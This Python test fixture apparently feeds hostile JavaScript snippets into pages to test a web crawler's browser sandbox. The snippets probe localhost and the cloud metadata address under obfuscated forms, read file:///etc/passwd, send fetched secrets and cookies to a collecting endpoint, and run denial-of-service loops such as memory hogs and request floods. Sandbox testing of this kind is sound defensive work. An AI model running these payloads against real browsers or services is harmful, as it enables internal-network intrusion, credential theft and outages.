"""Attacks that scripts of pages may try in the crawler's browser."""

# ruff: noqa: E501  # lines of scripts
from __future__ import annotations

SHELL = '<!doctype html><title>{name}</title><body><div id="root"></div><script src="/main.js"></script><script>{script}</script>'
DONE = "document.getElementById('root').innerHTML = '<p>the page went on, coral reef fish polyp lagoon atoll diver current kelp</p>';"
SECRET = "http://127.0.0.1:{secret}/secret"

# One page contains all of these in a row.
ATTACKS = {
    "requests": (
        "fetch('{url}').catch(() => 0);",
        "fetch('{url}', {{mode: 'no-cors'}}).catch(() => 0);",
        "fetch('/said', {{method: 'POST', body: 'x'}}).catch(() => 0);",
        "fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0);",
        "for (const h of ['localhost', '2130706433', '[::1]', '0x7f.1', 'x.localhost', '0.0.0.0'])"
        " fetch('http://' + h + ':{secret}/').catch(() => 0);",
        "fetch('/to-secret').then((r) => r.text()).then((t) => fetch('/said?' + t)).catch(() => 0);",
        "document.head.append(Object.assign(document.createElement('script'), {{src: '/to-secret'}}));",
    ),
    "elements": (
        "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"{url}\"><link rel=dns-prefetch href=\"{url}\">"
        "<link rel=prefetch href=\"{url}\"><link rel=preload as=script href=\"{url}\"><link rel=modulepreload href=\"{url}\">"
        "<style>@import \"{url}\"; @font-face {{font-family: x; src: url({url})}} body {{background: url({url}); font-family: x}}</style>');",
        "document.head.append(Object.assign(document.createElement('script'),"
        " {{type: 'speculationrules', textContent: JSON.stringify({{prerender: [{{urls: ['{url}']}}]}})}}));",
        "new Image().src = '{url}'; document.body.insertAdjacentHTML('beforeend', '<video src=\"{url}\"></video>"
        "<object data=\"{url}\"></object><embed src=\"{url}\"><iframe src=\"{url}\"></iframe><iframe src=\"file:///etc/passwd\"></iframe>');",
    ),
    "sockets": (
        "new WebSocket('ws://127.0.0.1:{secret}/'); new EventSource('{url}'); navigator.sendBeacon('{url}', 'x');",
        "try {{ new WebTransport('https://127.0.0.1:{secret}/'); }} catch (e) {{}}",
        "const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{secret}'}}, {{urls:"
        " 'turn:127.0.0.1:{secret}?transport=tcp', username: 'a', credential: 'b'}}]}}); p.createDataChannel('x');"
        " p.createOffer().then((o) => p.setLocalDescription(o));",
        "const a = Object.assign(document.createElement('a'), {{href: '#x', ping: '{url}'}}); document.body.append(a); a.click();",
    ),
    "workers": (
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{url}'); importScripts('{url}');\"])));",
        "try {{ new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{url}');\"]))); }} catch (e) {{}}",
        "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0);",
    ),
    "windows": (
        "for (let n = 0; n < 5; n++) window.open('{url}');",
        "document.body.insertAdjacentHTML('beforeend', '<form method=post action=\"{url}\" target=x id=f></form>'); document.forms.f.submit();",
        "alert(1); confirm(2); prompt(3); print();",
        "const b = Object.assign(document.createElement('a'), {{href: URL.createObjectURL(new Blob(['x'])), download: 'y'}});"
        " document.body.append(b); b.click();",
    ),
    "much": (
        "document.title = '\\ud800 half a pair';",
        "fetch('data:text/plain,' + 'x'.repeat(3e7)).catch(() => 0); fetch('file:///etc/passwd').catch(() => 0);",
        "for (let n = 0; n < 400; n++) fetch('/many/' + n).catch(() => 0);",
    ),
    "posts": (
        "const json = {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: '{{}}'}};",
        "for (const h of ['127.0.0.1', '127.1', '2130706433', '[::ffff:127.0.0.1]', 'u:p@127.0.0.1'])"
        " fetch('http://' + h + ':{secret}/', json).catch(() => 0);",
        "const x = new XMLHttpRequest(); x.open('POST', 'http://127.0.0.1@127.0.0.1:{secret}/'); x.send('{{}}');",
        "fetch('/to-secret', json).catch(() => 0);",
        "fetch('http://localhost:{port}/other-site', json).catch(() => 0);",
        "fetch('/said', {{...json, headers: {{'Content-Type': 'multipart/form-data; boundary=x'}}}}).catch(() => 0);",
        "fetch('/said', {{method: 'POST', body: new Blob(['{{}}'], {{type: 'text/html'}})}}).catch(() => 0);",
        "fetch('/said', {{...json, body: new Blob([new Uint8Array([255, 254])])}}).catch(() => 0);",
        "fetch('/said', {{...json, body: '\"' + 'x'.repeat(20000) + '\"'}}).catch(() => 0);",
        "fetch('/said', {{...json, body: JSON.stringify({{query: 'mutation {{ buy }}'}})}}).catch(() => 0);",
        "fetch('/forbidden', json).catch(() => 0);",
        "for (let n = 0; n < 100; n++) fetch('/ask', json).catch(() => 0);",
    ),
    "cookies": (
        "document.cookie = 'a=here'; document.cookie = 'b=there; domain=localhost'; document.cookie = 'c=wide; domain=1';",
        "for (let n = 0; n < 300; n++) document.cookie = 'n' + n + '=' + 'x'.repeat(4000);",
        "fetch('/own-cookies').catch(() => 0);",
        "fetch('http://localhost:{port}/thief', {{credentials: 'include'}}).catch(() => 0);",
        "fetch('http://localhost:{port}/thief', {{headers: {{'x-a': 'b'}}, credentials: 'include'}}).catch(() => 0);",
        "document.head.append(Object.assign(document.createElement('script'), {{src: 'http://localhost:{port}/thief'}}));",
    ),
    "frames": (
        "const add = (src) => document.body.append(Object.assign(document.createElement('iframe'), {{src}}));",
        "for (const src of ['file:///etc/passwd', '{url}', '/to-secret', 'http://localhost:{port}/other-site', 'view-source:{url}',"
        " 'chrome://version', 'blob:null/x', 'javascript:fetch(\"{url}\")', 'about:blank', 'ftp://127.0.0.1:{secret}/']) add(src);",
        "add('data:text/html,<p>datum<script>fetch(\"{url}\")</' + 'script>'); add('data:text/html,' + 'x'.repeat(1e6));",
        "add('/deep/1');",
    ),
    "many-frames": (
        "for (let n = 0; n < 30; n++) document.body.append(Object.assign(document.createElement('iframe'), {{src: '/flat/' + n}}));",
    ),
    "clicks": (
        "document.body.insertAdjacentHTML('beforeend', '<form name=states><input name=page><input name=copyOf></form><p id=controls></p>');",
        "const control = (does, html) => {{ controls.insertAdjacentHTML('beforeend', html || '<span><button>x</button></span>');"
        " const made = controls.lastChild.lastChild; made.className = 'c' + 'abcdefghijklmn'[controls.children.length]; made.onclick = does; }};",
        "control(() => fetch('{url}').catch(() => 0)); control(() => {{ location = '{url}'; }}); control(() => window.open('{url}'));",
        "control(null, '<p><a href=\"javascript:location.href=`{url}`\">x</a></p>'); control(() => {{ location = 'file:///etc/passwd'; }});",
        "control(() => fetch('/said', {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: '{{}}'}}).catch(() => 0));",
        "control(() => {{ document.body.insertAdjacentHTML('beforeend', '<form method=post action=/said id=sent></form>');"
        " document.forms.sent.submit(); }});",
        "control(() => {{ for (let n = 0; n < 9; n++) history.pushState(0, '', '/pushed/' + n); }});",
        "control(() => document.body.insertAdjacentHTML('beforeend', '<iframe src=\"{url}\"></iframe><iframe src=\"/to-secret\"></iframe>'));",
        "control(() => {{ let node = controls; for (let n = 0; n < 5000; n++) node = node.appendChild(document.createElement('b')); }});",
        "control(() => {{ for (let n = 0; n < 400; n++) fetch('/lots/' + n).catch(() => 0); }});",
        "control(() => {{ for (let n = 0; n < 30000; n++) fetch('/said', {{method: 'PUT'}}).catch(() => 0); }});",
    ),
    "nested-here": (
        "let inner = document; for (let n = 0; n < 100; n++) {{ const f = inner.createElement('iframe'); inner.body.append(f);"
        " inner = f.contentDocument; inner.body.append('level ' + n); }}",
        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<p>one<script>fetch(`{url}`)</' + 'script>\"></iframe>');",
    ),
}  # fmt: skip
# These never finish, or they leave the page.
OTHERS = {
    "location": "location.href = '{url}';",
    "download": "const a = Object.assign(document.createElement('a'), {{href: '{url}', download: 'x'}}); document.body.append(a); a.click();",
    "file-location": "const to = 'file:///etc/passwd'; location.href = to;",
    "data-location": "const to = 'data:text/html,<p>hi'; location.href = to;",
    "endless": "while (true) {{}}",
    "endless-dialogs": "while (true) alert(1);",
    "hog": "const all = []; while (true) {{ const part = new Uint8Array(5e7); part.fill(1); all.push(part); }}",
    "nodes": "while (true) document.body.append(document.createElement('p'));",
    "reload": "location.reload();",
    "frame-endless": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/endless-frame'}}));",
    "frame-moves-all": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/moving-frame'}}));",
    "frame-form": "document.body.insertAdjacentHTML('beforeend', '<iframe name=x></iframe><form method=post action=/said target=x id=f>"
    "<input name=a value=b></form>'); document.forms.f.submit();",
    "cookie-reloads": "document.cookie = 'n=' + Date.now(); location.reload();",
    "chatter": "(async () => {{ for (;;) await fetch('/said', {{method: 'PUT'}}).catch(() => 0); }})();",
    "chatter-at-once": "for (let n = 0; n < 30000; n++) fetch('/said', {{method: 'PUT'}}).catch(() => 0);",
    "frame-chatter": "for (;;) {{ const f = document.createElement('iframe'); document.body.append(f); f.remove(); }}",
    "post-bomb": "fetch('/said', {{method: 'POST', body: 'x'.repeat(4e7)}}).catch(() => 0);",
    "methods": "for (let n = 0; n < 50; n++) fetch('/said', {{method: 'M' + n}}).catch(() => 0);",
    "long": "document.body.innerHTML = '<p>coral reef</p>'.repeat(1e6);",
}
